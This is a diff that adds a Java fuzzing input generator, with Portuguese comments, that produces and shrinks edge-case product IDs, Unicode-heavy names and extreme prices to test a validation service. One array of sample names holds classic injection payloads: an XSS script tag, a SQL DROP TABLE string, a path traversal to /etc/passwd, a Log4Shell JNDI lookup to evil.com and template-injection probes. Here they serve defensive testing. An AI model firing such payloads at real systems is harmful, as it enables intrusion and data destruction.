@@ -0,0 +1,193 @@
+package com.example.fuzzing;
+
+import java.util.ArrayList;
+import java.util.List;
+import java.util.SplittableRandom;
+
+import com.example.service.ResultadoValidacao;
+
+/**
+ * Gera e reduz entradas de produto para o fuzzing.
+ * Os nomes misturam ASCII, acentos, CJK, emojis (pares surrogate), marcas combinantes, caracteres
+ * invisíveis, surrogates isolados e, em parte dos casos, caracteres de controle, com tamanhos
+ * concentrados em torno do limite de {@value ResultadoValidacao#TAMANHO_MAXIMO_NOME}. Os preços
+ * incluem NaN, infinitos, -0.0, subnormais, extremos e padrões de bits aleatórios; os IDs,
+ * nulos, zero, negativos, os produtos iniciais e os extremos de Long.
+ * A redução só propõe entradas estritamente mais simples, então sempre termina.
+ */
+public class GeradorEntradas {
+
+    private static final int LIMITE = ResultadoValidacao.TAMANHO_MAXIMO_NOME;
+    private static final int[] TAMANHOS_LIMITE = { 1, LIMITE - 1, LIMITE, LIMITE + 1, LIMITE + 2, 2 * LIMITE };
+
+    private static final String[] BRANCOS = { "", " ", "   ", "\t", "\n", "\u2003", "\u3000", "\u00A0", "\u200B" };
+    private static final String[] CARGAS = { "<script>alert('XSS')</script>", "'; DROP TABLE produtos; --",
+            "../../../etc/passwd", "${jndi:ldap://evil.com/a}", "#{7*7}", "[[${7*7}]]", "%s%s%n", "\uFEFFProduto",
+            "Produto\u202Eodnum", "null", "NaN", "-1" };
+
+    private static final char[] CONTROLE = { '\u0000', '\u0007', '\t', '\n', '\r', '\u001B', '\u007F', '\u0085',
+            '\u009F' };
+    private static final char[] INVISIVEIS = { '\u200B', '\u200D', '\uFEFF', '\u202E', '\u00A0', '\u2028', '\u00AD' };
+    private static final char[] ACENTOS = { 'á', 'ã', 'ç', 'é', 'ê', 'í', 'ó', 'õ', 'ú', 'Ñ', 'ß', 'Ø' };
+
+    private static final double[] PRECOS_LIMITE = { Double.NaN, Double.POSITIVE_INFINITY, Double.NEGATIVE_INFINITY,
+            0.0, -0.0, Double.MIN_VALUE, -Double.MIN_VALUE, Double.MIN_NORMAL, Double.MAX_VALUE, -Double.MAX_VALUE,
+            0.01, -0.01, 1.0, -1.0, 1e-300, 99_999.99, 9_007_199_254_740_993.0, (double) Long.MAX_VALUE,
+            Double.longBitsToDouble(0x7FF8_0000_0000_0001L) };
+
+    private static final long[] IDS_LIMITE = { 0, 1, 2, 3, 4, -1, Long.MIN_VALUE, Long.MAX_VALUE,
+            Integer.MAX_VALUE, Integer.MAX_VALUE + 1L };
+
+    /**
+     * Entrada sorteada com o gerador informado
+     */
+    public EntradaProduto entrada(SplittableRandom aleatorio) {
+        return new EntradaProduto(gerarId(aleatorio), gerarNome(aleatorio), gerarPreco(aleatorio));
+    }
+
+    /**
+     * Entradas mais simples que a informada, das mais para as menos agressivas.
+     * Cada campo só caminha para valores menores: ID nulo, zero e metade; nome nulo, vazio, sem trechos
+     * e com caracteres trocados por 'a'; preço nulo, 0.0, 1.0, truncado, positivo e metade.
+     */
+    public List<EntradaProduto> reducoes(EntradaProduto entrada) {
+        List<EntradaProduto> candidatas = new ArrayList<>();
+        Long id = entrada.id();
+        if (id != null) {
+            candidatas.add(new EntradaProduto(null, entrada.nome(), entrada.preco()));
+            if (id != 0) {
+                candidatas.add(new EntradaProduto(0L, entrada.nome(), entrada.preco()));
+            }
+            if (id / 2 != 0) {
+                candidatas.add(new EntradaProduto(id / 2, entrada.nome(), entrada.preco()));
+            }
+        }
+
+        String nome = entrada.nome();
+        if (nome != null) {
+            candidatas.add(new EntradaProduto(id, null, entrada.preco()));
+            if (!nome.isEmpty()) {
+                candidatas.add(new EntradaProduto(id, "", entrada.preco()));
+            }
+            // Remove trechos cada vez menores (metades, quartos, ... até caracteres isolados) e depois
+            // troca trechos por 'a' na mesma ordem: poucas tentativas por passo, mesmo em nomes longos
+            for (int trecho = nome.length() / 2; trecho >= 1; trecho /= 2) {
+                for (int inicio = 0; inicio < nome.length(); inicio += trecho) {
+                    String menor = nome.substring(0, inicio) + nome.substring(Math.min(nome.length(), inicio + trecho));
+                    candidatas.add(new EntradaProduto(id, menor, entrada.preco()));
+                }
+            }
+            for (int trecho = nome.length(); trecho >= 1; trecho /= 2) {
+                for (int inicio = 0; inicio < nome.length(); inicio += trecho) {
+                    int fim = Math.min(nome.length(), inicio + trecho);
+                    String parte = nome.substring(inicio, fim);
+                    if (parte.chars().anyMatch(c -> c != 'a')) {
+                        String simples = nome.substring(0, inicio) + "a".repeat(fim - inicio) + nome.substring(fim);
+                        candidatas.add(new EntradaProduto(id, simples, entrada.preco()));
+                    }
+                }
+            }
+        }
+
+        Double preco = entrada.preco();
+        if (preco != null) {
+            candidatas.add(new EntradaProduto(id, nome, null));
+            double valor = preco;
+            if (!preco.equals(0.0)) {
+                candidatas.add(new EntradaProduto(id, nome, 0.0));
+                if (valor != 1.0) {
+                    candidatas.add(new EntradaProduto(id, nome, 1.0));
+                }
+            }
+            if (Double.isFinite(valor)) {
+                double truncado = valor < 0 ? Math.ceil(valor) : Math.floor(valor);
+                if (truncado != valor) {
+                    candidatas.add(new EntradaProduto(id, nome, truncado));
+                } else {
+                    if (valor < 0) {
+                        candidatas.add(new EntradaProduto(id, nome, -valor));
+                    }
+                    if (Math.abs(valor) > 2) {
+                        double metade = valor / 2;
+                        candidatas.add(new EntradaProduto(id, nome, valor < 0 ? Math.ceil(metade) : Math.floor(metade)));
+                    }
+                }
+            }
+        }
+        return candidatas;
+    }
+
+    private static Long gerarId(SplittableRandom aleatorio) {
+        int faixa = aleatorio.nextInt(100);
+        if (faixa < 50) {
+            return null;
+        }
+        if (faixa < 85) {
+            return IDS_LIMITE[aleatorio.nextInt(IDS_LIMITE.length)];
+        }
+        return aleatorio.nextLong();
+    }
+
+    private static String gerarNome(SplittableRandom aleatorio) {
+        int faixa = aleatorio.nextInt(100);
+        if (faixa < 4) {
+            return null;
+        }
+        if (faixa < 10) {
+            return BRANCOS[aleatorio.nextInt(BRANCOS.length)];
+        }
+        if (faixa < 16) {
+            return CARGAS[aleatorio.nextInt(CARGAS.length)];
+        }
+        int tamanho = faixa < 36
+                ? TAMANHOS_LIMITE[aleatorio.nextInt(TAMANHOS_LIMITE.length)]
+                : 1 + aleatorio.nextInt(faixa < 90 ? 40 : 2 * LIMITE);
+        // Só parte dos nomes leva caracteres de controle: os demais exercitam o caminho válido
+        boolean comControle = aleatorio.nextInt(100) < 15;
+
+        StringBuilder nome = new StringBuilder(tamanho + 1);
+        while (nome.length() < tamanho) {
+            int tipo = aleatorio.nextInt(100);
+            if (tipo < 55) {
+                nome.append((char) (0x20 + aleatorio.nextInt(0x5F)));
+            } else if (tipo < 67) {
+                nome.append(ACENTOS[aleatorio.nextInt(ACENTOS.length)]);
+            } else if (tipo < 77) {
+                nome.append((char) (0x4E00 + aleatorio.nextInt(0x5000)));
+            } else if (tipo < 85) {
+                nome.appendCodePoint(0x1F300 + aleatorio.nextInt(0x300));
+            } else if (tipo < 90) {
+                nome.append((char) (0x0300 + aleatorio.nextInt(0x70)));
+            } else if (tipo < 95) {
+                nome.append(INVISIVEIS[aleatorio.nextInt(INVISIVEIS.length)]);
+            } else if (tipo < 97) {
+                nome.append((char) (0xD800 + aleatorio.nextInt(0x800)));
+            } else if (comControle) {
+                nome.append(CONTROLE[aleatorio.nextInt(CONTROLE.length)]);
+            } else {
+                nome.append(' ');
+            }
+        }
+        // Um emoji no fim pode passar do tamanho: o corte deixa um surrogate isolado, o que também interessa
+        nome.setLength(tamanho);
+        return nome.toString();
+    }
+
+    private static Double gerarPreco(SplittableRandom aleatorio) {
+        int faixa = aleatorio.nextInt(100);
+        if (faixa < 4) {
+            return null;
+        }
+        if (faixa < 30) {
+            return PRECOS_LIMITE[aleatorio.nextInt(PRECOS_LIMITE.length)];
+        }
+        if (faixa < 40) {
+            // Qualquer padrão de bits: subnormais, NaN com payload, expoentes extremos
+            return Double.longBitsToDouble(aleatorio.nextLong());
+        }
+        if (faixa < 50) {
+            return (double) aleatorio.nextLong(-1000, 1000);
+        }
+        return Math.round(aleatorio.nextDouble(-100, 100_000) * 100) / 100.0;
+    }
+}